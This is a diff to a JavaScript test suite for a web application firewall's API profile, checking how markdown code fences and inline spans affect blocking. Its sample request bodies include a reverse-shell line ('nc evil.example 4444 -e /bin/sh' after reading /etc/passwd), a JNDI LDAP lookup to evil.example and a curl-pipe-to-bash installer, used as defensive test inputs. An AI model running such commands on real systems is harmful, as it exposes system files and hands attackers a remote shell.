@@ -280,6 +280,8 @@ describe('waf API profile: fenced code blocks in markdown prose (family k)', () 
       "Here is what fixed it for me:\n\n```js\nconst { exec } = require('child_process');\nexec('ls -la', (err, out) => console.log(out));\n```",
       'Not sure this is related, but this works for me:\n\n```\nfor f in exports/*.csv; do\n  wc -l "$f"\ndone\n```\nwithout any error.',
       'Our workflow looks like this, with the fix applied:\n~~~yaml\nsteps:\n  - run: curl -sS https://example.com/install.sh | bash -\n~~~',
+      // Inline spans of a document that holds a fence are code too.
+      'In the container `whoami` prints `root`, and `ls -1 | wc -l` shows 3 files:\n```sh\nid\n```\nWe should add USER app.',
     ]) {
       assert.equal((await run(plain, { body })).error?.reason?.startsWith('waf:'), true, body);
       assert.equal((await run(api, { body })).error, undefined, body);
@@ -295,6 +297,8 @@ describe('waf API profile: fenced code blocks in markdown prose (family k)', () 
       'The logger prints this line for me:\n```\n\u0024{jndi:ldap://evil.example/a}\n```\nthanks a lot',
       // No prose around the block: not a markdown document.
       '```sh\ncat /etc/passwd; nc evil.example 4444 -e /bin/sh\n```',
+      // Spans without a fence in the document keep family c's rules (a probe in a span stays blocked).
+      'In the container `whoami` prints `root`, we should add USER app to the image.',
       // An unclosed fence.
       'Please run this for me now:\n```sh\ncat /etc/passwd; nc evil.example 4444 -e /bin/sh',
     ]) {
@@ -317,6 +321,10 @@ describe('waf API profile: fenced code blocks in markdown prose (family k)', () 
         blocks: ['a\n```\nb', 'c'],
       },
     );
+    assert.deepEqual(markdownFences('Run `npm ci` first, then this one:\n```\nnpm test\n```'), {
+      prose: 'Run   first, then this one:\n',
+      blocks: ['npm test', 'npm ci'],
+    });
     assert.equal(markdownFences('no fences at all in this text'), null);
     assert.equal(markdownFences('```sh\nls\n```'), null);
     assert.equal(markdownFences('Please run this for me:\n```sh\nls'), null);
